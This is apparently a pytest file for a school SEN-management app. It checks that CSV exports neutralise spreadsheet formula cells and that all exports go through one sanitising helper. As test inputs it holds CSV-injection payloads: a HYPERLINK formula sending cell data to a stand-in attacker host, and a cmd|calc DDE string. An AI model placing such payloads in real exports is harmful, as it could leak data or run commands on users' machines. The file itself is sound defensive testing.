"""Every CSV download neutralises cells a spreadsheet would run as formulas (CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from interventions.models import Intervention, Removal
from pupils.models import Pupil
from send_hub.lib.csv import safe_cell
from tests.factories import PupilFactory, on_register
from tests.interventions.test_sendco_dashboard import NOON, _client, clinic

ROOT = Path(__file__).resolve().parent.parent
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (LINK, "'" + LINK),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-2+3+cmd|calc", "'-2+3+cmd|calc"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ada Fakename", "Ada Fakename"),
        ("", ""),
        # Text that is only a number cannot run: a spreadsheet reads it as that number.
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        # Real numbers are never text, whatever their sign.
        (-3, -3),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_safe_cell_neutralises_text_that_would_run_and_leaves_numbers(
    value: object, shown: object
) -> None:
    assert safe_cell(value) == shown


def test_every_csv_writer_goes_through_the_one_helper() -> None:
    """A new export that writes CSV by hand would skip the neutralising: name it here instead."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|content_type=.text/csv")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("send_hub", "staff", "pupils", "interventions", "safeguarding")
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts
        and path != ROOT / "send_hub" / "lib" / "csv.py"
        and writers.search(path.read_text())
    ]
    assert offenders == []


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_sen_register_export_neutralises_a_formula_in_a_name(world) -> None:
    Pupil.objects.filter(pk=world.pupil.pk).update(legal_surname=LINK, legal_forename="@Ada")
    rows = _rows(world.client("sendco").get(reverse("pupils:register_export")))
    row = next(r for r in rows if r[0] == world.pupil.upn)
    assert row[1:3] == ["'" + LINK, "'@Ada"]


@pytest.mark.django_db
def test_the_removals_export_neutralises_names_and_keeps_figures(world) -> None:
    pupil = PupilFactory(school=world.school, legal_forename="-Cal", legal_surname="Fakename")
    on_register(pupil, "K", "SEMH")
    start = timezone.make_aware(dt.datetime(2025, 11, 10, 9))
    Removal.objects.create(
        school=world.school,
        pupil=pupil,
        kind="REMOVAL",
        started_at=start,
        ended_at=start + dt.timedelta(minutes=30),
        reason="Fake reason",
        recorded_by=world.users["sendco"],
    )
    url = reverse("interventions:monitoring_csv") + "?start=2025-11-01&end=2025-11-30"
    rows = _rows(world.client("sendco").get(url))
    named = next(r for r in rows if r and r[0].endswith("Fakename"))
    assert named[0] == "'-Cal Fakename"
    assert named[2:] == ["1", "30"]  # one removal, 30 minutes: numbers stay numbers


@pytest.mark.django_db
@time_machine.travel(NOON, tick=False)
def test_the_provision_map_export_neutralises_an_intervention_name() -> None:
    c = clinic()
    Intervention.objects.filter(pk=c.i["i1"].pk).update(name="+SUM(1,2)")
    response = _client(c.sendco).get(
        reverse("interventions:sendco_provision_csv"), {"term": "2025-SPRING"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["Intervention"].endswith("SUM(1,2)"))
    assert row["Intervention"] == "'+SUM(1,2)"
    assert row["Total cost (GBP)"] == "105.00"
